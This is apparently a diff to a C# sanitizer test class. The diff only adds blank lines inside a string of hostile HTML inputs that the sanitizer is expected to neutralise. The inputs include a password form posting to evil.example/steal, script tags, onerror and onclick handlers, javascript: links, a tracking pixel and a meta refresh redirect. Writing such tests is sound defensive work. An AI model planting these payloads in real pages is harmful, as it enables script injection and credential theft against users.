@@ -22,14 +22,23 @@ public sealed class SanitizerTests
         See [the secretariat](https://c5.example.org/secretariat) or [mail us](mailto:desk@c5.example.org).
 
         <form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Send</button></form>
+
         <textarea>typed</textarea><select><option>x</option></select>
+
         ![tracker](https://evil.example/pixel.png)
+
         <img src="https://evil.example/img.png" onerror="alert(1)">
+
         <iframe src="https://evil.example/frame"></iframe><video src="https://evil.example/v.mp4"></video><audio src="a.mp3"></audio>
+
         <embed src="x.swf"><object data="x"></object><svg><circle r="1"/></svg>
+
         <script>alert(1)</script><style>body{display:none}</style>
+
         <a href="javascript:alert(1)">click</a> <a href="data:text/html,hi">data</a> <a href="ftp://files.example/x">ftp</a>
+
         <p style="background:url(https://evil.example/bg.png)" onclick="alert(1)">styled</p>
+
         <base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><link rel="stylesheet" href="https://evil.example/s.css">
         """;
 
